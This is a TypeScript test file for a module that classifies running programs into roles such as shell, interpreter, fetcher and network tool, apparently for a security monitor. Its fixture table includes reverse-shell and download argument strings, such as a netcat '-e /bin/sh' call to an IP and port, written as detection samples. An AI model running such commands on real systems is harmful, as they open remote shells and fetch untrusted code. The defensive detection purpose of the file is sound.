/** Holds which roles programs have by name, applet and conduct. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { join, roleSet, rolesOf } from "./program-roles.ts";
import { splitArguments } from "./split-arguments.ts";
import type { Role } from "./subject.ts";

function roles(binary: string, args = ""): ReadonlySet<Role> {
  return rolesOf(binary, () => splitArguments(args));
}

const has: readonly (readonly [string, string, Role])[] = [
  ["/bin/bash", "", "shell"],
  ["/usr/bin/python3.11", "app.py", "interpreter"],
  ["/usr/sbin/php-fpm8.2", "", "web-server"],
  ["/usr/bin/gcc-12", "", "compiler"],
  ["/bin/busybox", "wget http://h/x", "fetcher"],
  ["/bin/busybox", "sh -c id", "shell"],
  ["/bin/busybox", "", "shell"],
  ["/usr/bin/nc.openbsd", "-l 80", "network-tool"],
  ["/entrypoint.sh", "", "shell"],
  ["/app/run.py", "", "interpreter"],
  ["/usr/lib/postgresql/16/bin/postgres", "", "database"],
  ["/usr/sbin/sshd", "", "session-giver"],
  ["/usr/bin/containerd-shim-runc-v2", "", "runtime"],
  ["/tmp/x", '-c "id; uname -a"', "shell"],
  ["/tmp/x", "-i", "shell"],
  ["/tmp/x", '-c "import socket,os"', "interpreter"],
  ["/tmp/x", "-fsSL http://example.net/a", "fetcher"],
  ["/tmp/x", "-e /bin/sh 192.0.2.1 4444", "network-tool"],
];

test("programs have the roles that their name, applet or conduct shows", () => {
  for (const [binary, args, role] of has) {
    assert.ok(roles(binary, args).has(role), `${binary} ${args}: ${role}`);
  }
});

test("a configuration file given by -c makes no shell of a daemon", () => {
  assert.equal(roles("/usr/local/bin/mydaemon", "-c /etc/my.conf").size, 0);
  assert.equal(roles("/opt/agent/agent", "--listen http://0.0.0.0:1").size, 0);
});

test("equal roles are one object", () => {
  assert.equal(roles("/bin/sh"), roles("/usr/bin/sh"));
  assert.equal(roleSet(["shell", "wrapper"]), join(roleSet(["wrapper"]), "shell"));
});
